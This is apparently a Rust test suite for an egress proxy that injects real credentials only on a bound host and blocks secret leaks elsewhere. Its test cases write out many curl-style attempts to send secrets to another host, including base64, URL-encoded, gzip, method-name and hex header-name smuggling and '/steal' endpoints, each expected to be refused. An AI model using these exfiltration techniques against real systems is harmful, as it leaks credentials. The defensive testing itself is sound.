//! Credential injection: the phantom is swapped for the real value on the bound host, in
//! the declared place, and refused anywhere else; the real value never leaves in any form.

use base64::Engine as _;

use std::sync::Arc;

use crate::support::*;

/// A token the task holds in the clear, for `api.test` only (a git lease's).
const BOUND: &str = "tok_Q8wE3rT6yU1iO4pA7sD0fG5hJ2kL9zX";
const REAL: &str = "sk-live-Z3kq9PmW2xR7tY4uV8nB6cD1eF5gH0jA";
const GIT_REAL: &str = "ghp_4rT9sK2mQ7wX1zY6uV3nB8cD5eF0gH2jL9pM";
const QUERY_REAL: &str = "AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW";
const TOKEN: &str =
    "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJzcGlmZmU6Ly9yZW1pdC9hZ2VudC90ZXN0In0.c2lnbmF0dXJl";

fn remit(bound: u16, other: u16) -> String {
    format!(
        r#"
[network]
allow = ["api.test:{bound}", "other.test:{other}"]
private = ["127.0.0.1"]

[[network.credential]]
name = "model"
env = "MODEL_API_KEY"
from = {{ env = "REAL_MODEL_KEY" }}
inject = {{ hosts = ["api.test:{bound}"], header = "x-api-key" }}

[[network.credential]]
name = "git"
env = "GIT_TOKEN"
from = {{ env = "REAL_GIT_TOKEN" }}
inject = {{ hosts = ["api.test:{bound}"], basic = "password" }}

[[network.credential]]
name = "maps"
env = "MAPS_KEY"
from = {{ env = "REAL_MAPS_KEY" }}
inject = {{ hosts = ["api.test:{bound}"], query = "key" }}
"#
    )
}

struct World {
    _rt: tokio::runtime::Runtime,
    bound: Origin,
    other: Origin,
    proxy: Proxy,
}

fn world() -> World {
    world_with(hello())
}

/// The world with `handler` answering on the bound host.
fn world_with(handler: Handler) -> World {
    let rt = runtime();
    let ca = OriginCa::new();
    let config = ca.server_config(&["api.test", "other.test"]);
    let bound = rt.block_on(origin("127.0.0.1:0", Some(config.clone()), handler));
    let other = rt.block_on(origin("127.0.0.1:0", Some(config), hello()));
    let mut setup = Setup::new(&remit(bound.port(), other.port()));
    setup.resolver = TableResolver::with(&[("api.test", "127.0.0.1"), ("other.test", "127.0.0.1")]);
    setup.extra_roots = vec![ca.der.clone()];
    setup.host_env.insert("REAL_MODEL_KEY".into(), REAL.into());
    setup
        .host_env
        .insert("REAL_GIT_TOKEN".into(), GIT_REAL.into());
    setup
        .host_env
        .insert("REAL_MAPS_KEY".into(), QUERY_REAL.into());
    setup.known = vec![(
        "the task's identity token".into(),
        remit_egress::Secret::new(TOKEN),
    )];
    setup.bound = vec![remit_egress::BoundSecret {
        name: "the git token of `widgets`".into(),
        value: remit_egress::Secret::new(BOUND),
        hosts: vec![
            remit_types::network::HostPattern::parse(&format!("api.test:{}", bound.port()))
                .unwrap(),
        ],
    }];
    let proxy = rt.block_on(setup.start());
    World {
        _rt: rt,
        bound,
        other,
        proxy,
    }
}

impl World {
    fn bound_url(&self, path: &str) -> String {
        format!("https://api.test:{}{path}", self.bound.port())
    }
    fn other_url(&self, path: &str) -> String {
        format!("https://other.test:{}{path}", self.other.port())
    }
    fn curl(&self, args: &[&str]) -> (u16, String, String) {
        let mut all = vec!["--cacert", self.proxy.bundle.to_str().unwrap()];
        all.extend_from_slice(args);
        self.proxy.curl(&all)
    }
    fn nothing_real_arrived(&self) {
        for origin in [&self.bound, &self.other] {
            for seen in origin.requests() {
                let all = format!(
                    "{} {:?} {}",
                    seen.uri,
                    seen.headers,
                    String::from_utf8_lossy(&seen.body)
                );
                if std::ptr::eq(origin, &self.other) {
                    assert!(
                        !all.contains(REAL) && !all.contains(GIT_REAL) && !all.contains(QUERY_REAL),
                        "{all}"
                    );
                }
                assert!(!all.contains(TOKEN), "{all}");
            }
        }
    }
}

#[test]
fn phantoms_are_swapped_on_the_bound_host_only() {
    let w = world();
    let phantom = w.proxy.var("MODEL_API_KEY");
    assert_eq!(phantom.len(), REAL.len());
    assert!(phantom.starts_with("sk-live-") && phantom != REAL);

    // Header.
    let (status, _, _) = w.curl(&[
        "-H",
        &format!("x-api-key: {phantom}"),
        &w.bound_url("/v1/messages"),
    ]);
    assert_eq!(status, 200);
    let seen = w.bound.requests().pop().unwrap();
    assert_eq!(seen.header("x-api-key"), Some(REAL));

    // Basic auth (git's way): the password half.
    let git_phantom = w.proxy.var("GIT_TOKEN");
    let (status, _, _) = w.curl(&[
        "-u",
        &format!("x-access-token:{git_phantom}"),
        &w.bound_url("/api/data"),
    ]);
    assert_eq!(status, 200);
    let seen = w.bound.requests().pop().unwrap();
    let expected =
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GIT_REAL}"));
    assert_eq!(
        seen.header("authorization"),
        Some(format!("Basic {expected}").as_str())
    );

    // Query parameter.
    let maps = w.proxy.var("MAPS_KEY");
    let (status, _, _) = w.curl(&[&w.bound_url(&format!("/geo?q=x&key={maps}"))]);
    assert_eq!(status, 200);
    let seen = w.bound.requests().pop().unwrap();
    assert!(
        seen.uri.ends_with(&format!("/geo?q=x&key={QUERY_REAL}")),
        "{}",
        seen.uri
    );

    // Each use was a `secret_use` effect toward the destination.
    let uses = w.proxy.gate.effects_of("secret_use");
    assert_eq!(uses.len(), 3, "{uses:?}");
    assert!(
        uses.iter()
            .all(|(_, d)| *d == remit_egress::GateDecision::Allow)
    );
    assert!(eventually(|| records(&w.proxy.gate)
        .iter()
        .any(|r| r.credentials == ["model"])));

    // The phantom sent anywhere else is refused, in any place and encoding.
    let before = w.other.requests().len();
    for args in [
        vec![
            "-H".to_owned(),
            format!("x-api-key: {phantom}"),
            w.other_url("/"),
        ],
        vec![
            "-H".to_owned(),
            format!("authorization: Bearer {phantom}"),
            w.other_url("/"),
        ],
        vec![w.other_url(&format!("/?key={maps}"))],
        vec![
            "-u".to_owned(),
            format!("x:{git_phantom}"),
            w.other_url("/"),
        ],
        vec![
            "--data".to_owned(),
            format!("{{\"k\":\"{phantom}\"}}"),
            w.other_url("/"),
        ],
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, headers, body) = w.curl(&args);
        assert_eq!(status, 403, "{args:?}: {headers}{body}");
        assert!(
            headers.contains("x-remit-policy: egress.phantom")
                || headers.contains("X-Remit-Policy: egress.phantom"),
            "{headers}"
        );
        assert!(body.contains("placeholder of the credential"), "{body}");
    }
    assert_eq!(
        w.other.requests().len(),
        before,
        "nothing reached the other host"
    );
    assert!(
        violations(&w.proxy.gate)
            .iter()
            .filter(|v| v.kind == remit_egress::ViolationKind::Phantom)
            .count()
            >= 5
    );
    w.nothing_real_arrived();
}

#[test]
fn real_secrets_never_leave() {
    let w = world();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("exfil:{REAL}"));
    let url_encoded: String = REAL.bytes().map(|b| format!("%{b:02X}")).collect();
    let big = w.proxy.dir.path().join("big");
    // The secret in the middle of a 3 MiB streamed body, across chunk boundaries.
    let mut content = vec![b'x'; 3 << 20];
    content[(1 << 20) - 10..(1 << 20) - 10 + REAL.len()].copy_from_slice(REAL.as_bytes());
    std::fs::write(&big, &content).unwrap();
    let gz = w.proxy.dir.path().join("body.gz");
    {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(format!("token={TOKEN}").as_bytes()).unwrap();
        std::fs::write(&gz, e.finish().unwrap()).unwrap();
    }
    let cases: Vec<Vec<String>> = vec![
        vec!["--data".into(), format!("key={REAL}"), w.other_url("/body")],
        vec![
            "-H".into(),
            format!("x-leak: {REAL}"),
            w.other_url("/header"),
        ],
        vec![w.other_url(&format!("/q?x={REAL}"))],
        vec![w.other_url(&format!("/q?x={url_encoded}"))],
        vec![
            "--data".into(),
            format!("{{\"d\":\"{b64}\"}}"),
            w.other_url("/b64"),
        ],
        vec![
            "--data-binary".into(),
            format!("@{}", big.display()),
            w.other_url("/big"),
        ],
        vec![
            "-H".into(),
            format!("authorization: Bearer {TOKEN}"),
            w.other_url("/token"),
        ],
        vec![
            "-H".into(),
            "content-encoding: gzip".into(),
            "--data-binary".into(),
            format!("@{}", gz.display()),
            w.other_url("/gz"),
        ],
        // Even to the bound host, the real value itself is not the task's to send.
        vec![
            "-H".into(),
            format!("x-api-key: {REAL}"),
            w.bound_url("/v1"),
        ],
        // As the method (any token is one), or as a header's name.
        vec!["-X".into(), REAL.into(), w.other_url("/method")],
        vec!["-X".into(), TOKEN.into(), w.other_url("/method2")],
        vec![
            "-H".into(),
            format!("x-{}: 1", hex_of(REAL)),
            w.other_url("/name"),
        ],
    ];
    for args in cases {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, headers, body) = w.curl(&refs);
        assert_eq!(status, 403, "{args:?}: {headers}{body}");
        assert!(
            headers
                .to_ascii_lowercase()
                .contains("x-remit-policy: egress.dlp"),
            "{args:?}: {headers}"
        );
        assert!(
            !body.contains(REAL) && !headers.contains(REAL),
            "the answer must not echo the secret: {args:?} {headers} {body}"
        );
    }
    // Two codings in two headers (`identity` read first, `gzip` decoded by the origin):
    // refused, not inspected as the wrong thing; one `gzip` header is what is inspected above.
    let gz_arg = format!("@{}", gz.display());
    let (status, headers, body) = w.curl(&[
        "-H",
        "content-encoding: identity",
        "-H",
        "content-encoding: gzip",
        "--data-binary",
        &gz_arg,
        &w.other_url("/gz2"),
    ]);
    assert_eq!(status, 415, "{headers}{body}");
    assert!(
        headers
            .to_ascii_lowercase()
            .contains("x-remit-policy: egress.encoding"),
        "{headers}"
    );
    w.nothing_real_arrived();
    // The streamed body never delivered the secret's bytes, and records are redacted.
    for seen in w.other.requests() {
        assert!(!seen.body.windows(REAL.len()).any(|x| x == REAL.as_bytes()));
    }
    assert!(eventually(|| records(&w.proxy.gate).len() >= 9));
    for event in w.proxy.gate.events() {
        let text = serde_json::to_string(&event).unwrap();
        assert!(!text.contains(REAL) && !text.contains(TOKEN), "{text}");
    }
    let paths: Vec<String> = records(&w.proxy.gate)
        .iter()
        .map(|r| r.path.clone())
        .collect();
    assert!(
        paths.iter().any(|p| p.contains("[REDACTED:model]")),
        "{paths:?}"
    );

    // Harmless twins pass: a body, an unusual method, a header named in hex.
    let (status, _, _) = w.curl(&["--data", "key=nothing-secret-here", &w.other_url("/ok")]);
    assert_eq!(status, 200);
    let (status, _, _) = w.curl(&["-X", "PURGE", &w.other_url("/purge")]);
    assert_eq!(status, 200);
    let (status, _, _) = w.curl(&["-H", "x-6a6b: 1", &w.other_url("/hexname")]);
    assert_eq!(status, 200);
}

fn hex_of(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

/// A token the task holds for one host (a git lease's) goes there, in a header or as basic
/// authentication, and nowhere else, in any form.
#[test]
fn a_bound_token_goes_to_its_host_only() {
    let w = world();
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{BOUND}"));
    for args in [
        vec![
            "-H".to_owned(),
            format!("authorization: Bearer {BOUND}"),
            w.bound_url("/api/data"),
        ],
        vec![
            "-H".to_owned(),
            format!("authorization: Basic {basic}"),
            w.bound_url("/api/data"),
        ],
    ] {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, headers, body) = w.curl(&refs);
        assert_eq!(status, 200, "{args:?}: {headers}{body}");
    }
    let seen = w.bound.requests();
    assert_eq!(seen.len(), 2);
    for args in [
        vec![
            "-H".to_owned(),
            format!("authorization: Bearer {BOUND}"),
            w.other_url("/steal"),
        ],
        vec![
            "-H".to_owned(),
            format!("authorization: Basic {basic}"),
            w.other_url("/steal"),
        ],
        vec![
            "--data".to_owned(),
            format!("t={BOUND}"),
            w.other_url("/steal"),
        ],
        vec![w.other_url(&format!("/steal?t={BOUND}"))],
    ] {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, headers, body) = w.curl(&refs);
        assert_eq!(status, 403, "{args:?}: {headers}{body}");
        assert!(
            headers
                .to_ascii_lowercase()
                .contains("x-remit-policy: egress.dlp"),
            "{headers}"
        );
        assert!(body.contains("may be sent only to `api.test:"), "{body}");
        assert!(!body.contains(BOUND), "{body}");
    }
    assert!(
        w.other.requests().is_empty(),
        "nothing reached the other host"
    );
}

/// An origin that hands back what it received: a real credential it was sent comes back in
/// a header, a redirect or a compressed body, and the task gets none of them.
#[test]
fn a_credential_reflected_in_an_answer_is_withheld() {
    let gzip = |bytes: &[u8]| {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(bytes).unwrap();
        e.finish().unwrap()
    };
    let handler: Handler = Arc::new(move |seen: &Seen| {
        let key = seen.header("x-api-key").unwrap_or("none").to_owned();
        let query = seen.uri.split_once('?').map_or("", |(_, q)| q).to_owned();
        let plain = vec![("content-type".to_owned(), "text/plain".to_owned())];
        let gzipped = vec![("content-encoding".to_owned(), "gzip".to_owned())];
        let path = seen.uri.split('?').next().unwrap_or("").to_owned();
        match path.rsplit('/').next().unwrap_or("") {
            "echo-header" => (200, vec![("x-echo".into(), key)], b"ok".to_vec()),
            "other-header" => (200, vec![("x-other".into(), "fine".into())], b"ok".to_vec()),
            "redirect" => (
                301,
                vec![("location".into(), format!("https://api.test/moved?{query}"))],
                Vec::new(),
            ),
            "gzip" => (200, gzipped, gzip(format!("you sent {key}").as_bytes())),
            "accept" => (
                200,
                plain,
                seen.header("accept-encoding")
                    .unwrap_or("none")
                    .as_bytes()
                    .to_vec(),
            ),
            _ => (200, plain, b"hello".to_vec()),
        }
    });
    let w = world_with(handler);
    let phantom = w.proxy.var("MODEL_API_KEY");
    let maps = w.proxy.var("MAPS_KEY");
    let key_header = format!("x-api-key: {phantom}");
    let withheld = |args: &[&str], policy: &str, status: u16| {
        let (got, headers, body) = w.curl(args);
        assert_eq!(got, status, "{args:?}: {headers}{body}");
        assert!(
            headers
                .to_ascii_lowercase()
                .contains(&format!("x-remit-policy: {policy}")),
            "{args:?}: {headers}"
        );
        for real in [REAL, QUERY_REAL] {
            assert!(
                !headers.contains(real) && !body.contains(real),
                "{headers}{body}"
            );
        }
    };
    // The origin echoes the injected header back.
    withheld(
        &["-H", &key_header, &w.bound_url("/echo-header")],
        "egress.dlp",
        403,
    );
    // A redirect that repeats the query, injected key and all.
    withheld(
        &[&w.bound_url(&format!("/redirect?q=1&key={maps}"))],
        "egress.dlp",
        403,
    );
    // A compressed body the search could not read, though the task asked for none.
    withheld(
        &["--compressed", "-H", &key_header, &w.bound_url("/gzip")],
        "egress.encoding",
        502,
    );
    assert!(
        violations(&w.proxy.gate)
            .iter()
            .filter(|v| v.kind == remit_egress::ViolationKind::KnownSecret)
            .count()
            >= 2
    );

    // Harmless twins: answers without the credential pass as they came.
    let (status, headers, _) = w.curl(&["-H", &key_header, &w.bound_url("/other-header")]);
    assert_eq!(status, 200, "{headers}");
    assert!(
        headers.to_ascii_lowercase().contains("x-other: fine"),
        "{headers}"
    );
    let (status, headers, _) = w.curl(&[&w.bound_url("/redirect?q=1")]);
    assert_eq!(status, 301, "{headers}");
    assert!(headers.contains("/moved?q=1"), "{headers}");
    // A request carrying a credential asks for an uncompressed answer; one without keeps
    // what the task asked for, and its compressed answer passes.
    let (status, _, body) = w.curl(&["--compressed", "-H", &key_header, &w.bound_url("/accept")]);
    assert_eq!((status, body.as_str()), (200, "identity"));
    let (status, _, body) = w.curl(&["-H", "accept-encoding: gzip", &w.bound_url("/accept")]);
    assert_eq!((status, body.as_str()), (200, "gzip"));
    let (status, headers, body) = w.curl(&["--compressed", &w.bound_url("/gzip")]);
    assert_eq!(status, 200, "{headers}");
    assert_eq!(body, "you sent none");
}
